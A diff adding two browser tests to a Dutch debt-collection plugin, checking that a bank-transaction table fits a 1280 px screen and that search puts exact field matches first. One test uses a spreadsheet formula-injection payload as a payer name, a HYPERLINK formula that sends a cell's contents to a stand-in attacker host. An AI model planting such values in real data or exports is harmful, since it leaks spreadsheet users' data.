@@ -786,3 +786,66 @@ def test_the_total_outstanding_wraps_after_eur_never_inside_the_number(browser, 
     )
     context.close()
     assert lines == 1
+
+
+# -- the bank section on a laptop's screen ------------------------------------------------------------------
+
+
+def test_a_bank_credit_s_lines_to_assign_fit_a_1280_screen_beside_a_long_payer_name(browser, tmp_path):
+    # A payer name or a description without a space to wrap at (a formula, a long reference) held its column
+    # wide: at 1280 px the table ran 25 px past its box and cut the right edge of the lines to copy.
+    from datetime import date
+
+    from pelican.plugins.incasso.staff import STATIC
+    from tests.support.bankfiles import CREDITOR_IBAN, Booking, camt053, write_bank
+    from tests.support.ledgers import valid_creditor, valid_debtor, write_ledger
+
+    day = date(2026, 11, 23)
+    root = write_ledger(tmp_path / "ledger", creditor=valid_creditor(interest="none"), debtors=[valid_debtor()])
+    formula = '=HYPERLINK("http://evil.example?x="&A1,"KlikHierVoorDeBetalingVanVandaag")'
+    text = "BETALINGFACTUURF20260090ENF20260091KENMERKONBEKENDZIEBIJLAGE"
+    write_bank(root, {"a.xml": camt053(CREDITOR_IBAN, [Booking("248.05", day, ref="X1", name=formula, text=text)])})
+    books = read_books(root, day)
+    claims = [assess(books.ledger, d, day) for d in books.ledger.debtors]
+    book = staff_book(claims, books.ledger.creditor, day, "", lambda c: f"s/{c.debtor.id}/", bank=books.bank)
+    internal = tmp_path / "internal"
+    write_overview(staff_environment(str(REPO / "theme")), book, internal)
+    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    page = context.new_page()
+    page.goto((internal / "index.html").as_uri())
+    box = page.locator("#bank .table-scroll")
+    assert box.evaluate("b => b.scrollWidth <= b.clientWidth"), box.evaluate("b => [b.scrollWidth, b.clientWidth]")
+    lines, edge = page.locator("#bank-assign-1").bounding_box(), box.bounding_box()
+    assert lines["x"] + lines["width"] <= edge["x"] + edge["width"]
+    context.close()
+
+
+def test_a_single_term_that_is_a_whole_field_comes_first(opened, tmp_path):
+    # "000123" typed: X-0002's invoice number, also inside S-000123's id and S-001234's invoice number.
+    # X-0002 is the least advanced, so the overview's order put it last; the whole field comes first now.
+    from pelican.plugins.incasso.staff import STATIC
+    from tests.support.ledgers import event, invoice, valid_creditor, valid_debtor, write_ledger
+
+    debtors = [
+        valid_debtor(id="S-000123", name="Eerste Partij", invoices=[invoice(number="F1")]),
+        valid_debtor(id="S-001234", name="Tweede Partij", invoices=[invoice(number="F0001234")]),
+        valid_debtor(id="X-0002", name="Derde Partij", invoices=[invoice(number="000123", due="2026-10-01")]),
+    ]
+    debtors[0]["events"] = [event(AS_OF.replace(month=2, day=10), "reminder", channel="email")]
+    root = write_ledger(tmp_path / "ledger", creditor=valid_creditor(interest="none"), debtors=debtors)
+    books = read_books(root, AS_OF)
+    claims = [assess(books.ledger, d, AS_OF) for d in books.ledger.debtors]
+    book = staff_book(claims, books.ledger.creditor, AS_OF, "", lambda c: f"s/{c.debtor.id}/")
+    internal = tmp_path / "internal"
+    write_overview(staff_environment(str(REPO / "theme")), book, internal)
+    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
+    opened.goto((internal / "index.html").as_uri())
+    assert table_ids(opened)[-1] == "X-0002"  # last in the overview's order
+    opened.locator("#claims-filter").fill("000123")
+    assert found_ids(opened) == ["X-0002", "S-000123", "S-001234"]
+    heads = opened.locator("#found-table tr.group")
+    assert heads.first.inner_text().startswith("Zoals getypt, in één gegeven")
+    assert heads.first.inner_text().endswith("1 gevonden")
+    opened.locator("#claims-filter").fill("00012")  # in all three, a whole field of none: the overview's order
+    assert found_ids(opened)[-1] == "X-0002" and opened.locator("#found-table tr.group.together").count() == 0
